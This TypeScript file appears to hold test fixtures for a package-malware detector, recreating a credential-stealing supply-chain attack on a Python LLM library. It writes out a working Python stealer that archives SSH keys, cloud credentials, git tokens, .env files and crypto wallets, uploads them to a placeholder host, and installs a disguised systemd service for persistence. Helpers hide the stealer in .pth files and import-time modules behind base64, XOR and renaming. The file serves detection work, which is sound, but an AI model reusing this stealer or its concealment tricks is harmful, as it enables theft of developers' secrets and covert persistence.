import { casesOf, type Facts } from '../case';
import { base64, execBase64, execXor, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

/** The sink answers before anything is written, which a reserved name never does. */
const payload = (host: string, unit: string) => `import glob
import os
import subprocess
import tarfile
import tempfile
import urllib.request


def collect():
    home = os.path.expanduser("~")
    wanted = [".ssh/*", ".aws/credentials", ".kube/config", ".config/gcloud/*.json", ".docker/config.json", ".git-credentials", ".env", ".bitcoin/wallet.dat"]
    archive = os.path.join(tempfile.mkdtemp(), "tpcp.tar.gz")
    with tarfile.open(archive, "w:gz") as out:
        for pattern in wanted:
            for path in glob.glob(os.path.join(home, pattern)):
                out.add(path)
    return archive


def send(archive):
    with open(archive, "rb") as source:
        request = urllib.request.Request("https://${host}/", data=source.read(), headers={"X-Filename": "tpcp.tar.gz"})
    return urllib.request.urlopen(request, timeout=20).read()


def persist(script):
    folder = os.path.expanduser("~/.config/systemd/user")
    os.makedirs(folder, exist_ok=True)
    target = os.path.expanduser("~/.config/${unit}/${unit}.py")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as out:
        out.write(script)
    with open(os.path.join(folder, "${unit}.service"), "w") as out:
        out.write("[Unit]\\nDescription=System Telemetry Service\\n[Service]\\nExecStart=/usr/bin/python3 %s\\nRestart=always\\n[Install]\\nWantedBy=default.target\\n" % target)
    subprocess.run(["systemctl", "--user", "enable", "--now", "${unit}.service"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


try:
    urllib.request.urlopen("https://${host}/ping", timeout=5)
    persist(send(collect()))
except Exception:
    pass
`;

const pth = (code: string) =>
  `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${base64(code)}'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n`;

const FACTS: Facts = {
  now: '2026-03-24T12:00:00Z',
  publishedAt: '2026-03-24T10:52:00Z',
  firstPublishedAt: '2023-07-27T00:00:00Z',
  previousPublishedAt: '2026-03-22T06:00:00Z',
  publisher: 'maintainer-token',
  previousPublisher: 'ci',
};
const CODE = payload('models-lite-cloud.invalid', 'sysmon');

export const litellm = casesOf({
  id: 'litellm',
  incident: 'litellm',
  kind: 'pth',
  seen: 'a .pth file starts an interpreter with a decoded payload at every start of Python; it packs credentials, sends them and makes a systemd service',
  replica: {
    sample: wheelOf('lite-models', '1.82.8', {
      about: 'One interface for many models.',
      files: { 'lite_models_init.pth': pth(CODE) },
    }),
    previous: wheelOf('lite-models', '1.82.6', { about: 'One interface for many models.' }),
    facts: FACTS,
  },
  renamed: wheelOf('prompt-router', '0.9.14', {
    about: 'Sends prompts to models.',
    files: {
      'prompt_router-nspkg.pth': pth(
        renamed(payload('router-telemetry.invalid', 'hw-daemon'), {
          collect: 'gather',
          send: 'push',
          persist: 'register',
          archive: 'bundle',
          wanted: 'globs',
          'tpcp.tar.gz': 'report.tgz',
        }),
      ),
    },
  }),
  reObfuscated: wheelOf('lite-models', '1.82.9', {
    about: 'One interface for many models.',
    files: {
      'lite_models_init.pth': `import lite_models._boot\n`,
      'lite_models/_boot.py': execXor(CODE, 0x5a),
    },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'a module of the package executes a decoded payload at import that packs credentials, sends them and makes a systemd service',
    sample: sdistOf('lite-models', '1.82.7', {
      about: 'One interface for many models.',
      init: (honest) => `${honest}\nfrom . import proxy_server\n`,
      files: {
        'lite_models/proxy_server.py': `"""The proxy."""\n\nimport os\n\n${execBase64(CODE)}\n\ndef create_app(config=None):\n    """Make the application."""\n    return {"config": config, "pid": os.getpid()}\n`,
      },
    }),
  },
});
